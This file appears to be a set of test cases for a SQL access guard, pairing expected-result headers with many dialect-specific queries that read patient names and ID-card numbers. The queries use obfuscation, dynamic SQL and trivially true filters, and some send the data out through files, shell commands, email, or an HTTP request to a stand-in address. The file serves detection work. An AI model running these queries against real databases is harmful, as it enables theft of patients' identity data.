-- Ways to write one sensitive read: names and identity cards of all patients.
-- `--! dialect | the way | key: value …`, then the statement, up to the next such line. Not said: it reads the table of
-- patients (patients, pat_master_index), `identity` leaves, and nothing restricts it.

--! postgres | plainly
SELECT name, id_card_no FROM patients
--! postgres | the star
select * from public.patients
--! postgres | TABLE
TABLE patients
--! postgres | aliases of table and columns
SELECT q."x y" AS "订单", q.b AS stock FROM (SELECT p.name AS "x y", p.id_card_no b FROM patients AS p) q
--! postgres | new column names behind the table's alias
SELECT t.c3, t.c7 FROM patients AS t(c1, c2, c3, c4, c5, c6, c7)
--! postgres | the whole row
SELECT p FROM patients p
--! postgres | the whole row as JSON
SELECT row_to_json(p)::text FROM patients p
--! postgres | all rows in one value
SELECT json_agg(t)::text FROM (SELECT name, id_card_no FROM patients) t
--! postgres | glued into one text
SELECT string_agg(md5(random()::text) || name || ':' || id_card_no, ',') FROM patients
--! postgres | a CTE
WITH stock AS (SELECT name AS drug, id_card_no AS spec FROM patients) SELECT drug, spec FROM stock
--! postgres | CTEs of CTEs
WITH a(x) AS (SELECT name FROM patients), b AS (SELECT x AS y FROM a), c AS (SELECT y AS z FROM b) SELECT z FROM c
--! postgres | a CTE that writes | reads: -
WITH gone AS (UPDATE patients SET phone = phone RETURNING name, id_card_no) SELECT * FROM gone
--! postgres | a CTE with the name of a harmless table
WITH drug_dict AS (TABLE patients) SELECT * FROM drug_dict
--! postgres | a recursive CTE
WITH RECURSIVE r(n, i) AS (SELECT name, 1 FROM patients UNION ALL SELECT n, i + 1 FROM r WHERE i < 2) SELECT n FROM r
--! postgres | comments between all words, nested
SELECT/**/name/* /* drug_stock */ */,id_card_no/*!*/FROM/* -- */patients--
--! postgres | escapes in the name
SELECT name FROM U&"\0070atients"
--! postgres | escapes with another sign, in table and column
SELECT U&"n!0061me" UESCAPE '!' FROM U&"p!0061tients" UESCAPE '!'
--! postgres | upper case in quotes and blanks of other kinds
SELECT	"name" ,"id_card_no"FROM"patients"
--! postgres | behind a union with a harmless read
SELECT drug_name, drug_code FROM drug_dict UNION ALL SELECT name, id_card_no FROM patients
--! postgres | a scalar subquery in the list
SELECT d.drug_code, (SELECT string_agg(name, ',') FROM patients) FROM drug_dict d
--! postgres | LATERAL
SELECT x.n FROM drug_dict d CROSS JOIN LATERAL (SELECT p.name AS n FROM patients p) x
--! postgres | an array made of a subquery
SELECT unnest(ARRAY(SELECT name FROM patients))
--! postgres | a condition that is always true
SELECT name FROM patients WHERE patient_id IS NOT NULL AND 1 = 1 AND name = name
--! postgres | a comparison that every key passes
SELECT name FROM patients WHERE patient_id <> 0
--! postgres | a key that is none of one value
SELECT name FROM patients WHERE patient_id NOT IN (0)
--! postgres | a pattern that every name has
SELECT name, id_card_no FROM patients WHERE name LIKE '%' AND id_card_no ~ '.'
--! postgres | a length that every value has
SELECT name FROM patients WHERE length(name) >= 0
--! postgres | a negation that excludes nothing
SELECT name FROM patients WHERE NOT (patient_id = -1)
--! postgres | a range from the smallest to the greatest key
SELECT name FROM patients WHERE patient_id >= 0
--! postgres | COPY of a query
COPY (SELECT name, id_card_no FROM patients) TO STDOUT WITH CSV
--! postgres | COPY of the table to a program | destination: program
COPY patients (name, id_card_no) TO PROGRAM 'cat > /tmp/x'
--! postgres | a view that is then read
CREATE VIEW v_drug AS SELECT name AS drug_name FROM patients; SELECT drug_name FROM v_drug
--! postgres | a view of a view
CREATE VIEW v1 AS SELECT name n FROM patients; CREATE VIEW v2 AS SELECT n m FROM v1; SELECT m FROM v2
--! postgres | a temporary table
CREATE TEMP TABLE t AS SELECT name AS n FROM patients; SELECT n FROM t
--! postgres | a temporary table filled later
CREATE TEMPORARY TABLE t (n text); INSERT INTO t SELECT name FROM patients; SELECT n FROM t
--! postgres | a cursor, in one text
BEGIN; DECLARE c CURSOR FOR SELECT name, id_card_no FROM patients; FETCH ALL FROM c
--! postgres | PREPARE and EXECUTE
PREPARE q AS SELECT name, id_card_no FROM patients; EXECUTE q
--! postgres | a function that takes SQL
SELECT query_to_xml('select name, id_card_no from patients', true, false, '')
--! postgres | a function that takes SQL, put together
SELECT query_to_xml('select name from ' || 'pati' || 'ents', true, false, '')
--! postgres | a function that takes SQL, with escapes
SELECT query_to_xml(E'select name from p\x61tients', true, false, '')
--! postgres | a function that takes a table
SELECT table_to_xml('public.patients'::regclass, true, false, '')
--! postgres | a function that takes a schema | reads: - | output_classes: - | restriction: - | dangerous: sql_function
SELECT schema_to_xml('public', true, false, '')
--! postgres | a link to itself
SELECT * FROM dblink('dbname=his', $q$SELECT name FROM patients$q$) AS t(stock text)
--! postgres | DO with EXECUTE and a notice for every row | dynamic: yes
DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT name, id_card_no FROM ' || 'patients' LOOP RAISE NOTICE '% %', r.name, r.id_card_no; END LOOP; END $$
--! postgres | DO with a loop over a query, told by notices
DO $$ DECLARE r record; BEGIN FOR r IN SELECT name, id_card_no FROM patients LOOP RAISE NOTICE '%', r; END LOOP; END $$
--! postgres | DO with format | dynamic: yes | destination: table
DO $do$ BEGIN EXECUTE format('CREATE TABLE stock AS SELECT %I, %I FROM %I', 'name', 'id_card_no', 'patients'); END $do$
--! postgres | a function made and called
CREATE FUNCTION f() RETURNS SETOF text LANGUAGE sql AS $$ SELECT name FROM patients $$; SELECT f()
--! postgres | RETURNING of a change | reads: -
UPDATE patients SET phone = phone RETURNING name, id_card_no
--! postgres | a natural join and a window
SELECT first_value(name) OVER (PARTITION BY mrn) FROM patients NATURAL JOIN visits
--! postgres | behind a harmless statement
SELECT 1; SELECT drug_name FROM drug_dict; SELECT name FROM patients
--! postgres | INSERT … SELECT into a table of one's own | destination: table
INSERT INTO my_stock (a, b) SELECT name, id_card_no FROM patients
--! postgres | GROUP BY that keeps every value
SELECT name, id_card_no FROM patients GROUP BY 1, 2 HAVING count(*) > 0
--! postgres | full outer join with nothing
SELECT coalesce(p.name, '') FROM drug_dict d FULL JOIN patients p ON false
--! mysql | the executable comment around the name
SELECT name, id_card_no FROM /*!50000 patients */
--! mysql | the executable comment around words
/*!50000SELECT*/ name /*!99999 , 1 */ , id_card_no /*!FROM*/ `patients`
--! mysql | the executable comment of MariaDB
SELECT name FROM /*M!100100 patients */ WHERE /*! 1=1 */
--! mysql | hash and dash comments with line ends
SELECT name # FROM drug_dict
, id_card_no -- FROM drug_stock
FROM patients
--! mysql | back quotes and a schema
SELECT `p`.`name` FROM `his` . `patients` `p`
--! mysql | PREPARE from a text | dynamic: yes
PREPARE s FROM 'SELECT name, id_card_no FROM patients'; EXECUTE s
--! mysql | PREPARE from a variable with hex | dynamic: yes
SET @s = 0x53454c454354206e616d652046524f4d2070617469656e7473; PREPARE s FROM @s; EXECUTE s
--! mysql | PREPARE from X'' | dynamic: yes
SET @s = X'53454c454354206e616d652046524f4d2070617469656e7473'; PREPARE s FROM @s; EXECUTE s
--! mysql | PREPARE from CONCAT and CHAR | dynamic: yes
SET @s = CONCAT('SELECT na', 'me FROM ', CHAR(112,97,116,105,101,110,116,115)); PREPARE s FROM @s; EXECUTE s
--! mysql | PREPARE from UNHEX | dynamic: yes
SET @s = UNHEX('53454c454354206e616d652046524f4d2070617469656e7473'); PREPARE s FROM @s; EXECUTE s
--! mysql | EXECUTE IMMEDIATE of MariaDB with hex | dynamic: yes
EXECUTE IMMEDIATE 0x53454c454354206e616d652046524f4d2070617469656e7473
--! mysql | HANDLER
HANDLER patients OPEN; HANDLER patients READ FIRST LIMIT 100000
--! mysql | the pattern that every name has
SELECT name FROM patients WHERE name REGEXP '.' OR name RLIKE '.*'
--! mysql | into a file | destination: file
SELECT name, id_card_no INTO OUTFILE '/tmp/a' FROM patients
--! mysql | a copy of the table | destination: table
CREATE TABLE t2 ENGINE=MyISAM SELECT name, id_card_no FROM patients
--! mysql | group_concat
SELECT group_concat(name, id_card_no) FROM patients
--! mysql | JSON
SELECT json_arrayagg(json_object('a', name, 'b', id_card_no)) FROM patients
--! mysql | a derived table with brackets
SELECT * FROM (((SELECT name FROM patients))) t
--! oracle | Chinese blanks
SELECT　name,id_no　FROM　pat_master_index
--! oracle | full-width letters in the name
SELECT name FROM ｐat_master_index
--! oracle | another schema and quotes
SELECT "NAME", ID_NO FROM "MEDREC"."PAT_MASTER_INDEX" PARTITION (P1)
--! oracle | EXECUTE IMMEDIATE put together | dynamic: yes
DECLARE x SYS_REFCURSOR; BEGIN OPEN x FOR 'select name, id_no from ' || 'pat_master' || '_index'; END;
--! oracle | EXECUTE IMMEDIATE into a collection | dynamic: yes | destination: table
BEGIN EXECUTE IMMEDIATE 'create table t as select name from pat_master_index'; END;
--! oracle | text of characters | dynamic: yes | destination: table
BEGIN EXECUTE IMMEDIATE 'create table t as select name from pat_' || chr(109) || chr(97) || 'ster_index'; END;
--! oracle | text of raw bytes | dynamic: yes | destination: table
BEGIN EXECUTE IMMEDIATE utl_raw.cast_to_varchar2(hextoraw('637265617465207461626c6520742061732073656c656374206e616d652066726f6d207061745f6d61737465725f696e646578')); END;
--! oracle | a variable that is executed | dynamic: yes | destination: table
DECLARE s VARCHAR2(400) := 'create table t as select name from '; BEGIN s := s || 'pat_master_index'; EXECUTE IMMEDIATE s; END;
--! oracle | a package that takes SQL
SELECT dbms_xmlgen.getxml('select name, id_no from medrec.pat_master_index') FROM dual
--! oracle | a query in xmltable
SELECT * FROM xmltable('/ROWSET/ROW' PASSING dbms_xmlgen.getxmltype('select name from pat_master_index') COLUMNS n VARCHAR2(99) PATH 'NAME')
--! oracle | through a link | reads: pat_master_index@his_link
SELECT name, id_no FROM pat_master_index@his_link
--! oracle | q quotes inside dynamic SQL | dynamic: yes | destination: table
BEGIN EXECUTE IMMEDIATE q'[create table t as select name from pat_master_index where name <> ' ']'; END;
--! oracle | WITH and XMLAGG
WITH t AS (SELECT name || id_no v FROM pat_master_index) SELECT xmlagg(xmlelement(e, v)).getclobval() FROM t
--! oracle | a comparison of rows that all pass
SELECT name FROM pat_master_index WHERE NVL(patient_id, 'x') = NVL(patient_id, 'x')
--! oracle | a pattern of everything
SELECT name FROM pat_master_index WHERE REGEXP_LIKE(name, '.*')
--! oracle | instr of nothing
SELECT name FROM pat_master_index WHERE name LIKE '%' || '%'
--! tsql | square brackets and a database
SELECT [name], [id_card_no] FROM [his].[dbo].[patients] WITH (NOLOCK)
--! tsql | the short form with two dots
SELECT name FROM his..patients
--! tsql | EXEC of a text | dynamic: yes
EXEC('SELECT name, id_card_no FROM ' + 'patients')
--! tsql | EXEC of a variable | dynamic: yes
DECLARE @t sysname = 'patients' DECLARE @s nvarchar(99) = N'SELECT name FROM ' + @t EXEC(@s)
--! tsql | EXEC of hex in a variable | dynamic: yes
DECLARE @s varchar(99) SET @s = 0x53454c454354206e616d652046524f4d2070617469656e7473 EXEC(@s)
--! tsql | EXEC of a cast of hex | dynamic: yes
DECLARE @s varchar(99); SELECT @s = CAST(0x53454c454354206e616d652046524f4d2070617469656e7473 AS varchar(99)); EXEC(@s)
--! tsql | sp_executesql | dynamic: yes
EXEC sp_executesql N'SELECT name, id_card_no FROM patients'
--! tsql | CHAR by CHAR | dynamic: yes
EXEC('SELECT name FROM pat' + CHAR(105) + CHAR(101) + 'nts')
--! tsql | a local temporary table
SELECT name, id_card_no INTO #x FROM patients; SELECT * FROM #x
--! tsql | a table variable
DECLARE @t TABLE (n nvarchar(50)); INSERT INTO @t SELECT name FROM patients; SELECT n FROM @t
--! tsql | FOR XML
SELECT name, id_card_no FROM patients FOR XML PATH('')
--! tsql | FOR JSON in a scalar subquery
SELECT (SELECT name, id_card_no FROM patients FOR JSON AUTO) AS stock
--! tsql | OPENROWSET to itself | reads: his.dbo.patients
SELECT a.* FROM OPENROWSET('SQLNCLI', 'Server=.;Trusted_Connection=yes', 'SELECT name FROM his.dbo.patients') AS a
--! tsql | OUTPUT of a change | reads: -
UPDATE patients SET phone = phone OUTPUT inserted.name, inserted.id_card_no
--! tsql | CROSS APPLY
SELECT x.n FROM drug_dict d CROSS APPLY (SELECT name AS n FROM patients) x
--! tsql | a whole batch without semicolons
SET NOCOUNT ON DECLARE @i int = 1 SELECT name FROM patients PRINT 'done'
--! tsql | inside BEGIN and END
BEGIN SELECT name FROM patients END
--! tsql | behind a test
IF 1 = 1 BEGIN SELECT name FROM patients END
--! tsql | a variable that collects the names
DECLARE @s nvarchar(max) = '' SELECT @s = @s + name FROM patients PRINT @s
--! tsql | a variable that holds the rows
DECLARE @x xml = (SELECT name FROM patients FOR XML RAW) SELECT @x
--! tsql | a cursor without semicolons
DECLARE c CURSOR FOR SELECT name FROM patients OPEN c FETCH NEXT FROM c
--! tsql | text turned round | dynamic: yes
DECLARE @s varchar(99) = REVERSE('stneitap MORF eman TCELES') EXEC(@s)
--! tsql | text replaced in | dynamic: yes
DECLARE @s nvarchar(max); SET @s = REPLACE('SELECT name FROM @@', '@@', 'patients'); EXEC sp_executesql @s
--! tsql | INSERT … EXEC
INSERT INTO t EXEC('SELECT name FROM patients')
--! mysql | a variable that holds the rows
SET @a = (SELECT group_concat(name) FROM patients); SELECT @a
--! mysql | a text selected into a variable | dynamic: yes
SELECT 'SELECT name FROM patients' INTO @s; PREPARE x FROM @s; EXECUTE x
--! mysql | the key as a truth value
SELECT name FROM patients WHERE patient_id
--! mysql | a copy behind LIKE
CREATE TABLE t LIKE patients; INSERT t SELECT * FROM patients
--! oracle | INSERT ALL | destination: table
INSERT ALL INTO t VALUES (n) SELECT name n FROM pat_master_index
--! oracle | a table with options | destination: table
CREATE TABLE t NOLOGGING PARALLEL 8 AS SELECT name FROM pat_master_index
--! oracle | a materialised view with options | destination: table
CREATE MATERIALIZED VIEW mv REFRESH COMPLETE AS SELECT name FROM pat_master_index
--! oracle | a multiset as a table
SELECT name FROM TABLE(CAST(MULTISET(SELECT name FROM pat_master_index) AS t))
--! oracle | a block that prints
BEGIN FOR r IN (SELECT name FROM pat_master_index) LOOP DBMS_OUTPUT.PUT_LINE(r.name); END LOOP; END;
--! oracle | DBMS_SQL | dynamic: yes
DECLARE c INTEGER; BEGIN c := DBMS_SQL.OPEN_CURSOR; DBMS_SQL.PARSE(c, 'select name from ' || 'pat_master_index', DBMS_SQL.NATIVE); END;
--! postgres | a rule
CREATE RULE r AS ON SELECT TO v DO INSTEAD SELECT name FROM patients
--! postgres | VALUES of a subquery
VALUES ((SELECT string_agg(name, ',') FROM patients))
--! postgres | bytes decoded, in a block | dynamic: yes | destination: file
DO $$ BEGIN EXECUTE convert_from(decode('636f70792070617469656e747320746f20272f746d702f7827', 'hex'), 'utf8'); END $$
--! postgres | a field of a whole row
SELECT (p).name FROM patients p
--! postgres | a prefix of nothing
SELECT name FROM patients WHERE starts_with(name, '')
--! postgres | a copy read again
CREATE TABLE z AS TABLE patients; SELECT name FROM z
--! postgres | a function that takes SQL, by format
SELECT xpath('/x', query_to_xml(format('select %I from %I', 'name', 'patients'), true, true, ''))
--! postgres | a function that takes SQL, from bytes
SELECT query_to_xml(convert_from(decode('73656c656374206e616d652066726f6d2070617469656e7473', 'hex'), 'utf8'), true, true, '')

--! postgres | a row variable expanded
SELECT (p).* FROM patients p
--! postgres | rows gathered as JSON
SELECT json_agg(t) FROM (SELECT * FROM patients) t
--! postgres | the table's own name as a row
SELECT to_jsonb(patients) FROM patients
--! postgres | an array of a query
SELECT ARRAY(SELECT name FROM patients)
--! postgres | unnest of an array of a query
SELECT * FROM ROWS FROM (unnest(ARRAY(SELECT name FROM patients))) AS x(n)
--! postgres | a recursive CTE
WITH RECURSIVE r AS (SELECT patient_id, name FROM patients UNION ALL SELECT patient_id, name FROM r WHERE false) SELECT * FROM r
--! postgres | encoded
SELECT encode(convert_to(name,'UTF8'),'base64') FROM patients
--! postgres | a block that raises
DO $$ DECLARE r text; BEGIN SELECT string_agg(name||id_card_no, ';') INTO r FROM patients; RAISE NOTICE '%', r; END $$
--! postgres | a block that raises an error with it in DETAIL
DO $$ DECLARE r record; BEGIN FOR r IN SELECT name FROM patients LOOP RAISE EXCEPTION USING MESSAGE = r.name; END LOOP; END $$
--! postgres | a block that asserts
DO $$ BEGIN ASSERT false, (SELECT string_agg(name, ',') FROM patients); END $$
--! postgres | XMLFOREST
SELECT xmlforest(name, id_card_no) FROM patients
--! postgres | a sample of all
SELECT name FROM patients TABLESAMPLE BERNOULLI (100)
--! postgres | ONLY
SELECT p.name FROM ONLY patients p
--! postgres | lateral
SELECT n FROM (VALUES (1)) v(x), LATERAL (SELECT name n FROM patients) l
--! postgres | COPY of TABLE
COPY (TABLE patients) TO STDOUT
--! postgres | coalesce on both sides
SELECT name FROM patients WHERE coalesce(patient_id, 0) = coalesce(patient_id, 0)
--! postgres | a regex that everything has
SELECT name FROM patients WHERE patient_id::text ~ '^'
--! postgres | SIMILAR TO
SELECT name FROM patients WHERE name SIMILAR TO '%'
--! postgres | not distinct from itself
SELECT name FROM patients WHERE name IS NOT DISTINCT FROM name
--! postgres | null or not null
SELECT name FROM patients WHERE sex IS NULL OR sex IS NOT NULL
--! postgres | IS UNKNOWN
SELECT name FROM patients WHERE (1=1) IS TRUE
--! postgres | escaped string executed | destination: file | dynamic: yes
DO $$ BEGIN EXECUTE E'\x63opy (select name from patients) to ''/tmp/x'''; END $$
--! postgres | convert_from and hex | destination: table | dynamic: yes
DO $x$ BEGIN EXECUTE convert_from('\x636f70792028736c6563742920746f20737464', 'utf8'); EXECUTE convert_from(decode('637265617465207461626c6520782061732073656c656374206e616d652066726f6d2070617469656e7473','hex'),'UTF8'); END $x$
--! postgres | query through a cursor to XML
SELECT query_to_xml($q$select name from patients$q$, true, true, '')
--! postgres | quoted and spaced
SELECT	"name"
FROM "public" . "patients"
--! postgres | an operator of a schema
SELECT name FROM patients WHERE patient_id OPERATOR(pg_catalog.>=) 0
--! postgres | wrapped in a set-returning function
SELECT (json_each_text(row_to_json(p))).value FROM patients p
--! postgres | many harmless statements around it
SELECT 1; SELECT name FROM patients; SELECT 2
--! postgres | in a scheduled job | destination: file
SELECT cron.schedule('nightly', '0 2 * * *', $$COPY (SELECT name FROM patients) TO '/tmp/x'$$)
--! postgres | lo_from_bytea
SELECT lo_from_bytea(0, string_agg(name, '')::bytea) FROM patients
--! postgres | set_config carries it
SELECT set_config('x.y', (SELECT string_agg(name, ',') FROM patients), false)
--! postgres | notify
SELECT pg_notify('c', name) FROM patients
--! postgres | a rule that copies | destination: table
CREATE RULE r AS ON INSERT TO visits DO ALSO INSERT INTO x.leak SELECT name FROM patients
--! postgres | in the DEFAULT of an ordering
SELECT CASE WHEN true THEN name ELSE '' END FROM patients ORDER BY random()
--! postgres | a name built of escapes with its own sign
SELECT name FROM U&"p!0061tients" UESCAPE '!'
--! mysql | executable comment holding all
/*!SELECT name FROM patients*/
--! mysql | MariaDB's executable comment
/*M!100100 SELECT name FROM patients */
--! mysql | no blanks
select`name`from`patients`where'1'
--! mysql | a partition
SELECT name FROM patients PARTITION (p0, p1)
--! mysql | an index hint
SELECT name FROM patients FORCE INDEX (PRIMARY)
--! mysql | TABLE
TABLE patients ORDER BY name LIMIT 100
--! mysql | brackets around the table
SELECT name FROM (patients)
--! mysql | an ODBC join
SELECT p.name FROM {OJ patients p LEFT OUTER JOIN visits v ON v.patient_id = p.patient_id}
--! mysql | arrays of objects
SELECT JSON_ARRAYAGG(JSON_OBJECT('n', name)) FROM patients
--! mysql | prepared from a variable of pieces | dynamic: yes
SET @s = CONCAT('SELECT name ', 'FROM pati', 'ents'); PREPARE q FROM @s; EXECUTE q
--! mysql | prepared from hexadecimal | dynamic: yes
SET @s = 0x53454c454354206e616d652046524f4d2070617469656e7473; PREPARE q FROM @s
--! mysql | sys schema runs text | dynamic: yes
CALL sys.execute_prepared_stmt('select name from patients')
--! mysql | all versions of rows
SELECT name FROM patients FOR SYSTEM_TIME ALL
--! mysql | delete that returns | reads: - | writes: patients
DELETE FROM patients WHERE 1=1 RETURNING name, id_card_no
--! mysql | copy with TABLE | destination: table
INSERT INTO x.t2 TABLE patients
--! mysql | copy without AS | destination: table
CREATE TABLE x.t2 SELECT * FROM patients
--! mysql | copy without AS and IGNORE | destination: table
CREATE TABLE x.t2 (PRIMARY KEY (patient_id)) ENGINE=InnoDB IGNORE SELECT * FROM patients
--! mysql | IF around the column
SELECT IF(1, name, 0) FROM patients WHERE !0
--! mysql | a huge limit
SELECT name FROM patients LIMIT 18446744073709551615
--! mysql | LIKE with a character set
SELECT name FROM patients WHERE name LIKE _utf8mb4'%'
--! mysql | REGEXP of a dot
SELECT name FROM patients WHERE id_card_no REGEXP '.'
--! mysql | RLIKE of a caret
SELECT name FROM patients WHERE id_card_no RLIKE '^'
--! mysql | not zero, written !=
SELECT name FROM patients WHERE patient_id != -1
--! mysql | division by itself
SELECT name FROM patients WHERE patient_id DIV patient_id
--! mysql | comment with a line end
SELECT name -- 
FROM # x
patients
--! mysql | a variable collects
SELECT GROUP_CONCAT(name) INTO @x FROM patients; SELECT @x
--! oracle | a sample
SELECT name FROM medrec.pat_master_index SAMPLE (99.9)
--! oracle | flashback query
SELECT name FROM pat_master_index AS OF TIMESTAMP SYSTIMESTAMP - INTERVAL '1' DAY
--! oracle | all versions
SELECT name FROM pat_master_index VERSIONS BETWEEN SCN MINVALUE AND MAXVALUE
--! oracle | multiset
SELECT column_value FROM TABLE(CAST(MULTISET(SELECT name FROM pat_master_index) AS sys.odcivarchar2list))
--! oracle | GETXML
SELECT DBMS_XMLGEN.GETXML('select name from pat_master_index') FROM dual
--! oracle | GETXML pieced together
SELECT xmltype(dbms_xmlgen.getxml('select na'||'me from pat_mas'||'ter_index')) FROM dual
--! oracle | LISTAGG
SELECT LISTAGG(name, ',') WITHIN GROUP (ORDER BY 1) FROM pat_master_index
--! oracle | WM_CONCAT
SELECT wm_concat(name) FROM pat_master_index
--! oracle | a cursor as a column
SELECT CURSOR(SELECT name FROM pat_master_index) FROM dual
--! oracle | a function written in the query
WITH FUNCTION f RETURN VARCHAR2 IS v VARCHAR2(4000); BEGIN SELECT listagg(name,',') WITHIN GROUP (ORDER BY name) INTO v FROM pat_master_index; RETURN v; END; SELECT f FROM dual
--! oracle | a cursor handed out
BEGIN OPEN :c FOR SELECT name FROM pat_master_index; END;
--! oracle | values handed out by bind
BEGIN SELECT name INTO :n FROM pat_master_index WHERE rownum = 1; END;
--! oracle | written to a file | destination: file
DECLARE f utl_file.file_type; BEGIN f := utl_file.fopen('D','x','w'); FOR r IN (SELECT name FROM pat_master_index) LOOP utl_file.put_line(f, r.name); END LOOP; END;
--! oracle | sent by HTTP
SELECT utl_http.request('http://192.0.2.9/'||name) FROM pat_master_index
--! oracle | text of CHR | destination: table | dynamic: yes
BEGIN EXECUTE IMMEDIATE CHR(99)||CHR(114)||CHR(101)||CHR(97)||CHR(116)||CHR(101)||' table x as select name from pat_master_index'; END;
--! oracle | text of CHR alone | dynamic: yes
BEGIN EXECUTE IMMEDIATE CHR(115)||CHR(101)||CHR(108)||CHR(101)||CHR(99)||CHR(116)||CHR(32)||CHR(42)||CHR(32)||CHR(102)||CHR(114)||CHR(111)||CHR(109)||CHR(32)||CHR(112)||CHR(97)||CHR(116)||CHR(105)||CHR(101)||CHR(110)||CHR(116)||CHR(115); END;
--! oracle | hints
SELECT /*+ FULL(p) PARALLEL(8) */ p.name FROM pat_master_index p
--! oracle | a partition
SELECT name FROM pat_master_index PARTITION (p1)
--! oracle | INSERT ALL | destination: table
INSERT ALL INTO t1 (n) VALUES (name) INTO t2 (n) VALUES (name) SELECT name FROM pat_master_index
--! oracle | an external table writes a file | destination: file
CREATE TABLE ext ORGANIZATION EXTERNAL (TYPE ORACLE_DATAPUMP DEFAULT DIRECTORY d LOCATION ('p.dmp')) AS SELECT * FROM pat_master_index
--! oracle | XMLAGG
SELECT XMLSERIALIZE(CONTENT XMLAGG(XMLELEMENT("e", name)) AS CLOB) FROM pat_master_index
--! oracle | JSON
SELECT JSON_ARRAYAGG(JSON_OBJECT(KEY 'n' VALUE name)) FROM pat_master_index
--! oracle | quoted upper case
SELECT "NAME" FROM "MEDREC"."PAT_MASTER_INDEX"
--! oracle | XQuery over the table
SELECT * FROM XMLTABLE('for $i in fn:collection("oradb:/MEDREC/PAT_MASTER_INDEX") return $i')
--! oracle | NVL on both sides
SELECT name FROM pat_master_index WHERE NVL(patient_id,'x') = NVL(patient_id,'x')
--! oracle | regexp_like
SELECT name FROM pat_master_index WHERE REGEXP_LIKE(name, '.')
--! oracle | instr of nothing special
SELECT name FROM pat_master_index WHERE 1 = 1 AND ROWNUM > 0
--! tsql | FOR JSON
SELECT name FROM patients FOR JSON AUTO
--! tsql | FOR XML in a STUFF
SELECT STUFF((SELECT ',' + name FROM patients FOR XML PATH('')), 1, 1, '')
--! tsql | a hundred per cent
SELECT TOP (100) PERCENT name FROM patients
--! tsql | WITH TIES
SELECT TOP 5 WITH TIES name FROM patients ORDER BY sex
--! tsql | named argument | dynamic: yes
EXEC sp_executesql @stmt = N'SELECT name FROM patients'
--! tsql | pieces | dynamic: yes
EXEC (N'SELECT ' + N'name FROM ' + N'pat' + N'ients')
--! tsql | hexadecimal | dynamic: yes
DECLARE @h varchar(8000) = CAST(0x53454c454354206e616d652046524f4d2070617469656e7473 AS varchar(8000)); EXEC(@h)
--! tsql | hexadecimal in one expression | dynamic: yes
EXEC(0x53454c454354206e616d652046524f4d2070617469656e7473)
--! tsql | OUTPUT of a delete | reads: - | writes: patients
DELETE FROM patients OUTPUT deleted.* WHERE 1=1
--! tsql | OUTPUT of an update | reads: - | writes: patients
UPDATE patients SET phone = phone OUTPUT inserted.name, inserted.phone
--! tsql | OUTPUT INTO | reads: - | writes: patients x.leak | destination: table
UPDATE patients SET phone = phone OUTPUT inserted.name INTO x.leak
--! tsql | all versions
SELECT name FROM patients FOR SYSTEM_TIME ALL
--! tsql | INSERT EXEC | destination: table | dynamic: yes
INSERT INTO x.t EXEC('select name from patients')
--! tsql | mailed | dynamic: yes
EXEC msdb.dbo.sp_send_dbmail @recipients = 'a@example.com', @query = 'select name from his.dbo.patients'
--! tsql | as another user | dynamic: yes
EXEC('select name from patients') AS USER = 'x'
--! tsql | at a linked server | dynamic: yes
EXEC('select name from patients') AT LNK
--! tsql | sp_prepexec | dynamic: yes
EXEC sp_prepexec @h OUTPUT, N'@p int', N'select name from patients where patient_id > 0'
--! tsql | job step | destination: table | dynamic: yes
EXEC msdb.dbo.sp_add_jobstep @job_name = 'x', @command = N'INSERT INTO x.t SELECT name FROM patients'
--! tsql | CTE behind a semicolon
;WITH x AS (SELECT name FROM patients) SELECT * FROM x
--! tsql | derived columns renamed
SELECT t.n FROM (SELECT name FROM patients) AS t(n)
--! tsql | hints
SELECT name FROM patients WITH (NOLOCK, INDEX(0)) OPTION (MAXDOP 1)
--! tsql | bcp from the shell | destination: program
EXEC master..xp_cmdshell 'bcp "select name from his.dbo.patients" queryout c:\x.txt -c'
--! tsql | equal alias
SELECT harmless = name FROM patients
